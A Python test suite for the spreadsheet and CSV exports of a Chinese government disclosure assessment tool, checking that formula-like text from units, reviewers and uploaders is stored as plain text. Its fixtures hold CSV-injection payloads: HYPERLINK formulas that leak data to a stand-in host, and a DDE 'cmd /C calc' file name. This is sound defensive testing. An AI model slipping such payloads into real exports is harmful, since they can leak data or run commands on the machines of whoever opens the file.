"""Exports are data: text from units, reviewers and uploaders is a string cell in
every workbook the product writes (never a formula, no recalculation on load),
and CSV cells a spreadsheet would take for a formula are neutralised (OWASP)."""
from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pandas as pd
import pytest

from data.access import SYSTEM
from data.users import create_user
from data.exports import csv_bytes, csv_cell, sheet_title, workbook_bytes
from data.ingest import ACCEPTED, REJECTED, ingest_bytes
from data.registry import Unit, load_units, parse_registry
from data.store import connect
from core.scheme import scheme_for
from tests.wbfactory import build, valid_sheets

EVIL_UNIT = '=HYPERLINK("http://x.example/?leak","点我")'
EVIL_TITLE = '=HYPERLINK("http://x.example/?t","标题")'
EVIL_NO = "=1+2"
EVIL_REASON = "=1+1 调整"
EVIL_FILE = "=cmd|' /C calc'!A0.xlsx"
EVIL = (EVIL_UNIT, EVIL_TITLE, EVIL_NO, EVIL_REASON, EVIL_FILE)


def formula_cells(content: bytes) -> list[str]:
    """Every cell of every sheet that a spreadsheet would evaluate: formula cells, and any cell whose
    stored value starts with '=' that is not a plain string cell."""
    wb = openpyxl.load_workbook(io.BytesIO(content))
    bad = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith("=") and c.data_type != "s"):
                    bad.append(f"{ws.title}!{c.coordinate}={c.value!r}")
    return bad


def recalculates_on_load(content: bytes) -> bool:
    xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/workbook.xml")
    return b'fullCalcOnLoad="1"' in xml or b"fullCalcOnLoad='1'" in xml


def texts(content: bytes) -> set[str]:
    wb = openpyxl.load_workbook(io.BytesIO(content))
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def assert_safe(content: bytes, *expected_texts: str) -> None:
    assert formula_cells(content) == []
    assert not recalculates_on_load(content)
    found = texts(content)
    for t in expected_texts:  # the text is there, intact, as text
        assert any(t in v for v in found), t


@pytest.fixture
def county(tmp_path):
    """A county with a unit whose name is a formula, one accepted workbook with a formula-like ledger
    title and request number, a review reason and a rejected file whose name is a formula."""
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(["单位名称", "单位类型", "附加必公开类别"])
    w.writerow([EVIL_UNIT, "部门", ""])
    con = connect(tmp_path / "t.duckdb")
    load_units(con, parse_registry(buf.getvalue()), actor=SYSTEM)
    create_user(con, "审核员", "reviewer", "password-1", actor=SYSTEM)
    s = valid_sheets(unit=EVIL_UNIT)
    s["主动公开台账"].rows[2][1] = EVIL_TITLE
    s["依申请公开台账"].rows[2][0] = EVIL_NO
    res = ingest_bytes(con, "ok.xls", build(s, "xls"), received=dt.date(2020, 1, 8))  # .xls: the text stays text
    assert res.outcome == ACCEPTED, res.report.rows()
    from data.review import set_review_score, snapshot

    set_review_score(con, res.submission_id, "A1", 1, EVIL_REASON, "审核员", seen=snapshot(con, EVIL_UNIT, 2019))
    bad = valid_sheets(unit=EVIL_UNIT)
    bad["主动公开台账"].rows[2][2] = "八卦新闻"
    rejected = ingest_bytes(con, EVIL_FILE, build(bad), received=dt.date(2020, 1, 8))
    assert rejected.outcome == REJECTED
    yield con, [res, rejected]
    con.close()


def test_assessment_results_workbook(county):
    from metrics.report import build_report

    con, _ = county
    assert_safe(build_report(con, 2019), EVIL_UNIT)


def test_unit_scorecard_workbook(county):
    from metrics.report import build_unit_scorecard

    con, _ = county
    assert_safe(build_unit_scorecard(con, 2019, EVIL_UNIT), EVIL_UNIT, EVIL_TITLE, EVIL_NO, EVIL_REASON)


def test_error_list_workbook_and_csv(county):
    from data.exports import csv_bytes as review_csv
    from data.uploads import issues_frame
    from data.exports import xlsx_bytes

    _, results = county
    df = issues_frame(results)
    assert_safe(xlsx_bytes(df), EVIL_FILE)
    rows = list(csv.reader(io.StringIO(review_csv(df).decode("utf-8-sig"))))
    # (ok.xls has an information note of its own: no 年报数据)
    assert [r[0] for r in rows[1:] if r[0] != "ok.xls"][0] == "'" + EVIL_FILE


def test_template_workbook():
    from data.template import build_template

    content = build_template(scheme_for(2019), Unit(EVIL_UNIT, "部门", ()))
    assert_safe(content, EVIL_UNIT)


def test_dashboard_table_downloads():
    from dashboard.viz import csv_bytes as viz_csv
    from dashboard.viz import xlsx_bytes

    df = pd.DataFrame({"单位": [EVIL_UNIT, "+1 号", "方正镇"], "得分": [-3.5, 2.0, 98.25], "说明": ["-1+1", "-3", "@x"]})
    assert_safe(xlsx_bytes(df, sheet="=bad:/?*[名]"), EVIL_UNIT)
    rows = list(csv.reader(io.StringIO(viz_csv(df).decode("utf-8-sig"))))
    assert rows[1] == ["'" + EVIL_UNIT, "-3.5", "'-1+1"]
    assert rows[2] == ["'+1 号", "2.0", "-3"]  # numbers, and text that is only a number, stay as they are
    assert rows[3] == ["方正镇", "98.25", "'@x"]


def test_scorecard_csv_of_the_command_line(county, tmp_path):
    from metrics import engine
    from metrics.__main__ import write_scorecard_csv

    con, _ = county
    df = engine.score_year(con, 2019)
    out = io.StringIO()
    write_scorecard_csv(df, ["unit", "unit_type", "total"], out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1][0] == "'" + EVIL_UNIT and rows[1][1] == "部门"
    assert float(rows[1][2]) > 0


@pytest.mark.parametrize("v, out", [
    ("=1+2", "'=1+2"), ("+SUM(A1)", "'+SUM(A1)"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("-3", "-3"), ("+12.5", "+12.5"), ("-1e3", "-1e3"), ("-5%", "-5%"),
    ("方正镇", "方正镇"), ("a=b", "a=b"), ("", ""), (-3, -3), (2.5, 2.5), (None, None),
])
def test_csv_cell(v, out):
    assert csv_cell(v) == out


def test_csv_bytes_keeps_numbers_numbers():
    df = pd.DataFrame({"a": ["=x", "ok"], "b": [-1, 2]})
    assert csv_bytes(df).decode("utf-8-sig") == "a,b\r\n'=x,-1\r\nok,2\r\n"


def test_workbook_bytes_turns_formula_text_into_text():
    wb = openpyxl.Workbook()
    wb.active["A1"] = "=1+2"
    assert wb.active["A1"].data_type == "f"  # what openpyxl does on its own
    content = workbook_bytes(wb)
    ws = openpyxl.load_workbook(io.BytesIO(content)).active
    assert ws["A1"].value == "=1+2" and ws["A1"].data_type == "s"
    assert not recalculates_on_load(content)


def test_sheet_title():
    assert sheet_title("=a/b:c?[d]*e\\f" + "x" * 40) == ("=a_b_c__d__e_f" + "x" * 40)[:31]
    assert sheet_title("''") == "工作表"
